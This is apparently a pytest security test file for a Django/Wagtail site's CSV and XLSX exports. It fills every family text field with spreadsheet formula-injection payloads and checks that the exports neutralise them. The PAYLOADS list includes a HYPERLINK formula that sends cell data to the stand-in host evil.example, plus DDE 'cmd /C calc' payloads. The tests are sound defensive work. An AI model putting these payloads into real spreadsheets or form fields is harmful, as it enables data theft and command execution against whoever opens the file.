"""Formula injection in exports (issue 11, finding 2): every spreadsheet the site writes is inert.

A child named ``=HYPERLINK(…)`` must reach the roster as the text it is, never
as a formula. The exports are discovered from ``memberspace.secretariat.spreadsheets``'
registry, so an export added later is attacked here too; a last test reads the
sources so that nothing writes a CSV or an XLSX behind the registry's back.
"""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.apps import apps
from django.conf import settings
from django.db import models
from django.urls import URLResolver, get_resolver, reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.models import ModelLogEntry, PageLogEntry

from memberspace.enrollments import services as enrollments
from memberspace.enrollments.models import Enrollment
from memberspace.families.models import Child
from memberspace.secretariat import spreadsheets
from pages.models import OfferPage
from tests.auth import login_staff
from tests.factories import UserFactory
from tests.security.conftest import MEMBER_APPS, body_of

pytestmark = pytest.mark.django_db

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A2;"Cliquez ici")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
)
FORMULA_STARTS = "=+-@\uff1d\uff0b\uff0d\uff20"
ENROLLMENTS = reverse("enrollments_enrollment_modeladmin_index")


def active(text):
    """Whether a spreadsheet would read ``text`` as a formula (OWASP's list, leading spaces skipped)."""
    first_seen = text.lstrip(" \u00a0")[:1]
    return text[:1] in ("\t", "\r", "\n") or (first_seen != "" and first_seen in FORMULA_STARTS)


def free_text_fields(model):
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and field.editable
        and not field.choices
        and not field.primary_key
        and field.name != "password"  # a hash, and the staff's session depends on it
    ]


def poison(payload):
    """Every free-text field of every row of the member area set to ``payload``, with what copies it:
    the offers' titles and the history's labels.

    Each value ends with a number of its own (unique fields stay unique), cut
    to the field's length; the values written are returned.
    """
    written = set()
    targets = {model: free_text_fields(model) for app in MEMBER_APPS for model in apps.get_app_config(app).get_models()}
    targets = {model: fields for model, fields in targets.items() if not model._meta.proxy}
    targets[OfferPage] = [OfferPage._meta.get_field("title")]
    for model in (ModelLogEntry, PageLogEntry):
        targets[model] = [model._meta.get_field("label")]
    for model, fields in targets.items():
        for pk in model.objects.values_list("pk", flat=True):
            values = {}
            for field in fields:
                suffix = f" {len(written)}"
                value = payload[: (field.max_length or 1000) - len(suffix)] + suffix
                values[field.name] = value
                written.add(value)
            model.objects.filter(pk=pk).update(**values)
    return written


def xlsx_cells(content):
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        assert not active(sheet.title)
        for row in sheet.iter_rows():
            yield from row


def csv_cells(content):
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=";"):
        yield from row


def assert_inert(content, file_format, written):
    """No formula in ``content``, and every poisoned text that is there is intact behind its quote."""
    texts = []
    if file_format == "xlsx":
        for cell in xlsx_cells(content):
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                texts.append(cell.value)
    else:
        texts = list(csv_cells(content))
    live = [text for text in texts if active(text)]
    assert live == []
    # An XLSX's XML reads a carriage return back as a line feed.
    written = {value.replace("\r", "\n") for value in written}
    kept = [text for text in texts if text.startswith("'") and text[1:].replace("\r", "\n") in written]
    assert kept, "the export carried none of the poisoned texts: the test attacked nothing"
    return kept


@pytest.fixture
def poisoned_world(world, secretary):
    """The security sweep's world, every child enrolled somewhere, every family text an attack."""
    enrollments.validate(world.requested, by=secretary)
    return world


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
@pytest.mark.parametrize("file_format", sorted(spreadsheets.FORMATS))
def test_every_export_writes_attack_texts_as_inert_text(poisoned_world, payload, file_format):
    written = poison(payload)
    exports = spreadsheets.registered()
    assert "roster" in exports  # the registry is found (autodiscovered) and not empty
    for export in exports.values():
        for instance in export.model.objects.all():
            content = spreadsheets.render(export.build(instance), file_format)
            if export.model is OfferPage and not Enrollment.objects.taken().filter(offer=instance).exists():
                continue
            assert_inert(content, file_format, written)


@pytest.mark.parametrize("file_format", sorted(spreadsheets.FORMATS))
def test_the_roster_downloaded_from_the_admin_is_inert(poisoned_world, file_format):
    written = poison(PAYLOADS[0])
    child = Child.objects.get(pk=poisoned_world.child.pk)
    response = poisoned_world.clients["secretary"].get(f"{ENROLLMENTS}roster/{poisoned_world.stay.pk}/{file_format}/")
    assert response.status_code == 200
    kept = assert_inert(response.content, file_format, written)
    # The team on site gets the emergency contact (neutralised); the health notes stay a yes/no flag.
    assert "'" + child.first_name in kept and "'" + child.emergency_contact_name in kept
    assert child.health_notes and not any(child.health_notes in cell for cell in kept)
    parents = [guardianship.parent for guardianship in child.guardianships.all()]
    assert all("'" + guardian.email in kept for guardian in parents)


def admin_downloads():
    """The admin pages that offer a CSV/XLSX download (Wagtail's ``SpreadsheetExportMixin``), read from the URLconf."""

    def walk(patterns, prefix):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                yield from walk(pattern.url_patterns, prefix + str(pattern.pattern))
            else:
                yield prefix + str(pattern.pattern), pattern

    found = {}
    for route, pattern in walk(get_resolver().url_patterns, "/"):
        view_class = getattr(pattern.callback, "view_class", None)
        if view_class and issubclass(view_class, SpreadsheetExportMixin) and view_class.list_export:
            assert not pattern.pattern.converters, route  # a listing that takes an argument: give it one here
            found.setdefault(view_class, route)
    return sorted(found.values())


def test_the_admin_downloads_are_found():
    routes = admin_downloads()
    assert "/admin/reports/site-history/" in routes and len(routes) >= 4


@pytest.mark.parametrize("file_format", sorted(spreadsheets.FORMATS))
def test_the_wagtail_admin_downloads_are_inert_too(poisoned_world, client, file_format):
    """The site history's labels and users carry families' names: Wagtail's own exports are attacked as ours."""
    written = poison(PAYLOADS[1])
    superuser = UserFactory(email="admin@le-po.test", is_staff=True, is_superuser=True)
    login_staff(client, superuser)
    carried = {}
    for route in admin_downloads():
        response = client.get(route, {"export": file_format})
        assert response.status_code == 200, route
        content = body_of(response)
        if file_format == "csv":  # Wagtail's CSV: commas, no byte order mark
            cells = [cell for row in csv.reader(io.StringIO(content.decode(), newline="")) for cell in row]
        else:
            cells = []
            for cell in xlsx_cells(content):
                assert cell.data_type != "f", (route, cell.value)
                cells.append(cell.value)
        texts = [cell for cell in cells if isinstance(cell, str)]
        assert [text for text in texts if active(text)] == [], route
        carried[route] = [text for text in texts if text.startswith("'") and text[1:] in written]
    assert carried["/admin/reports/site-history/"]  # the families' names, in the history's labels


def test_legitimate_values_read_as_they_are(world, secretary):
    """Site-formatted phones, hyphenated names and negative amounts are not mistaken for attacks."""
    enrollments.validate(world.requested, by=secretary)
    type(world.owner).objects.filter(pk=world.owner.pk).update(first_name="Marie-Anne", phone="+33612345678")
    type(world.coparent).objects.filter(pk=world.coparent.pk).update(last_name="O'Neil", phone="+32470123456")
    Enrollment.objects.filter(pk=world.requested.pk).update(deposit_amount=Decimal("-12.50"))
    dataset = spreadsheets.registered()["roster"].build(world.stay)

    header, *rows = csv.reader(
        io.StringIO(spreadsheets.render(dataset, "csv").decode("utf-8-sig"), newline=""), delimiter=";"
    )
    record = dict(zip(header, rows[0], strict=True))
    assert record["Responsable 1"] == "Marie-Anne Proprietarix" and record["Téléphone 1"] == "06 12 34 56 78"
    assert record["Responsable 2"] == "Paul O'Neil" and record["Téléphone 2"] == "00 32 470 12 34 56"
    assert record["Acompte"] == "-12,50"

    sheet = openpyxl.load_workbook(io.BytesIO(spreadsheets.render(dataset, "xlsx"))).active
    header = [cell.value for cell in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    assert cells["Téléphone 2"].value == "00 32 470 12 34 56" and cells["Téléphone 2"].data_type == "s"
    assert cells["Acompte"].value == -12.5 and cells["Acompte"].data_type == "n"
    assert cells["Date de naissance"].is_date


def test_control_characters_an_xlsx_cannot_hold_do_not_break_the_roster(world, secretary):
    enrollments.validate(world.requested, by=secretary)
    Child.objects.filter(pk=world.child.pk).update(first_name="Zo\x07é\x1b")  # no NUL: PostgreSQL refuses it in text
    sheet = openpyxl.load_workbook(
        io.BytesIO(spreadsheets.render(spreadsheets.registered()["roster"].build(world.stay), "xlsx"))
    ).active
    assert "Zoé" in [cell.value for cell in sheet[2]]


WRITERS = re.compile(r"csv\.(writer|DictWriter)\b|\bWorkbook\(|xlsxwriter|\.export\(|\bopenpyxl\.Workbook\b")


def test_nothing_writes_a_spreadsheet_but_the_spreadsheets_module():
    """A new export that skipped ``spreadsheets.render`` would skip the neutralisation: none may."""
    root = Path(settings.BASE_DIR)
    allowed = root / "memberspace" / "secretariat" / "spreadsheets.py"
    apps_dirs = [
        Path(config.path)
        for config in apps.get_app_configs()
        if Path(config.path).is_relative_to(root) and "site-packages" not in Path(config.path).parts  # our apps only
    ]
    offenders = [
        f"{path.relative_to(root)}:{number}"
        for directory in [*apps_dirs, root / "config"]
        for path in directory.rglob("*.py")
        if path != allowed and "migrations" not in path.parts
        for number, line in enumerate(path.read_text().splitlines(), 1)
        if WRITERS.search(line)
    ]
    assert offenders == []
